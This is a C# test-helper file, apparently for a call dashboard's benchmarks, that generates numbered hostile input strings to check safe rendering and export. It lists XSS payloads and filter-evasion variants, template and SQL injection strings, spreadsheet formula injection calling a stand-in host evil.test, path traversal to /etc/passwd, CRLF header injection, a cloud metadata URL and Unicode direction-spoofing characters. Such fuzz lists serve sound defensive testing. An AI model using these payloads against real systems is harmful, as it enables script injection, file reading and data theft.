using System.Globalization;
using System.Text;

namespace CallDashboard.Benchmarks.Hostile;

/// <summary>
/// Texts as an attacker, a careless customer and a broken exporter send them, each with a number of its own: markup that runs, templates, formulas,
/// paths, header breaks, changes of direction, letters made of many marks. The same seed gives the same texts. What runs calls <c>hostile(number)</c>.
/// </summary>
internal static class HostileStrings
{
    // # is replaced by the number.
    private static readonly string[] Markup =
    [
        "<script>hostile(#)</script>", "<img src=x onerror=hostile(#)>", "<svg onload=hostile(#)>", "\"><script>hostile(#)</script>", "'><img src=x onerror='hostile(#)'>", "<iframe srcdoc='<script>parent.hostile(#)</script>'></iframe>",
        "<a href=javascript:hostile(#)>x</a>", "javascript:hostile(#)", "<details open ontoggle=hostile(#)>", "<body onload=hostile(#)>", "<input autofocus onfocus=hostile(#)>", "<math><mi//xlink:href='javascript:hostile(#)'>",
        "</textarea><script>hostile(#)</script>", "</title><script>hostile(#)</script>", "--><script>hostile(#)</script><!--", "]]><script>hostile(#)</script>", "<style>@import'//evil.test/#'</style>", "<link rel=stylesheet href=//evil.test/#>",
        "<base href=//evil.test/#>", "<meta http-equiv=refresh content='0;url=//evil.test/#'>", "<object data=javascript:hostile(#)>", "<embed src=javascript:hostile(#)>", "<form action=javascript:hostile(#)><button>x</button></form>",
        "<video><source onerror=hostile(#)></video>", "<marquee onstart=hostile(#)>x</marquee>", "\" onmouseover=hostile(#) x=\"", "' autofocus onfocus=hostile(#) '", "` onclick=hostile(#) `", "&lt;script&gt;hostile(#)&lt;/script&gt;", "&#60;script&#62;hostile(#)&#60;/script&#62;",
        "\\u003cscript\\u003ehostile(#)\\u003c/script\\u003e", "%3Cscript%3Ehostile(#)%3C/script%3E", "<scr<script>ipt>hostile(#)</scr</script>ipt>", "<ScRiPt>hostile(#)</sCrIpT>", "<<script>hostile(#)//<</script>", "<template><script>hostile(#)</script></template>",
        "<noscript><p title='</noscript><img src=x onerror=hostile(#)>'>", "<xss style=animation-name:x onanimationstart=hostile(#)>", "<portal src=//evil.test/#>", "<!--#exec cmd=\"x\" -->",
    ];

    private static readonly string[] Templates =
    [
        "{{constructor.constructor('hostile(#)')()}}", "${hostile(#)}", "#{hostile(#)}", "<%= hostile(#) %>", "@(hostile(#))", "@{hostile(#);}", "{{7*7}}#", "{0}{1}{#}", "%s%n%x#", "$(hostile #)", "`hostile #`", "'; DROP TABLE Calls; -- #",
        "\" OR 1=1 -- #", "*/ hostile(#) /*", "\\'; hostile(#); //", "[[hostile(#)]](javascript:hostile(#))", "{\"__proto__\":{\"x\":#}}", "__proto__#", "constructor#", "toString#",
    ];

    private static readonly string[] Cells =
    [
        "=HYPERLINK(\"http://evil.test/#\",\"x\")", "=cmd|' /C calc'!A#", "+#+cmd|' /C calc'!A0", "-#+cmd|' /C calc'!A0", "@SUM(1+#)*cmd|' /C calc'!A0", "\t=1+#", "\r=1+#", "=1+#\",\"x", "\"=1+#\"", "＝1+#", "\uFEFF=1+#", "%0A=1+#", ";=1+#", "=IMPORTXML(\"http://evil.test/#\",\"//x\")",
    ];

    private static readonly string[] Places =
    [
        "../../../../etc/passwd#", "..\\..\\windows\\win.ini#", "/etc/passwd#", "C:\\#", "\\\\evil.test\\#", "file:///etc/passwd#", "con#", "nul.#", "a/b/#", "a\r\nSet-Cookie: hostile=#", "a\nLocation: //evil.test/#", "\";filename=\"#.html", "x;.html%00#", "//evil.test/#", "?a=1&b=#", "#fragment", "%2e%2e%2f#", "http://169.254.169.254/#",
    ];

    private static readonly string[] Letters =
    [
        "\u202Etxt.exe#\u202C", "\u2066#\u2069\u202B", "\u200F#\u200E", "\u061C#", "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309#", "\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67\u200D\uD83D\uDC66#", "\uFFFD#", "\uFFFE#", "\u0000#", "\u001B[31m#", "\u2028#\u2029", "\u00AD#", "\u200B#", "ﷺ﷽#", "𒐫𒈙⸻#",
        "ｓｃｒｉｐｔ#", "＜script＞hostile(#)＜/script＞", "İıŞß#", "שלום#مرحبا", "𝕏𝕏#",
    ];

    private static readonly string[] All = [.. Markup, .. Templates, .. Cells, .. Places, .. Letters];

    /// <summary>The text of a number.</summary>
    public static string Of(int number)
    {
        var text = new StringBuilder();
        var digits = number.ToString(CultureInfo.InvariantCulture);
        // The list once as it is; then two joined, in ever other pairs; now and then very long.
        text.Append(All[number % All.Length].Replace("#", digits, StringComparison.Ordinal));
        var round = number / All.Length;
        if (round > 0)
            text.Append(round % 3 == 0 ? " " : "").Append(All[(number + (round * 37)) % All.Length].Replace("#", digits, StringComparison.Ordinal));
        if (number % 97 == 96)
            text.Append(string.Concat(Enumerable.Repeat(Letters[4], 60)));
        return text.ToString();
    }

    /// <summary>A harmless text of a number, as long as the other one is interesting: what a page must look like.</summary>
    public static string Benign(int number) => string.Create(CultureInfo.InvariantCulture, $"harmless text {number}");
}
